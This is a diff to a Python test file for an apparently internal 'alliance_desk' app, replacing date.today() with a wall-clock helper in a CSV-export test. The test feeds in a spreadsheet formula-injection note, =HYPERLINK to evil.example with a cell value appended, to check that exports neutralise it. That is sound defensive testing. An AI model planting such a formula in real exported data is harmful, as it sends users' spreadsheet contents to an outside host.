@@ -8,6 +8,7 @@ from pathlib import Path
 
 import pytest
 
+from alliance_desk.core import wall
 from alliance_desk.store import portfolio
 
 HALO = "HALO-7 oncology co-development"
@@ -100,13 +101,12 @@ def test_an_export_replacing_a_file_is_atomic(demo_window, tmp_path: Path, monke
 def test_check_in_notes_that_look_like_formulas_are_inert(demo_window, tmp_path: Path) -> None:
     """A note typed as =HYPERLINK(…) is exported behind a quote, so no spreadsheet runs it."""
     import csv
-    from datetime import date
 
     from alliance_desk.core.habits import CheckIn
     from alliance_desk.store import habits
 
     note = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-    habits.add_checkin(demo_window.desk.store, CheckIn("bridge", date.today(), note, 5))
+    habits.add_checkin(demo_window.desk.store, CheckIn("bridge", wall.today(), note, 5))
     demo_window.show_section("habits")
     out = tmp_path / "check-ins.csv"
     demo_window.habits.export_csv(str(out))
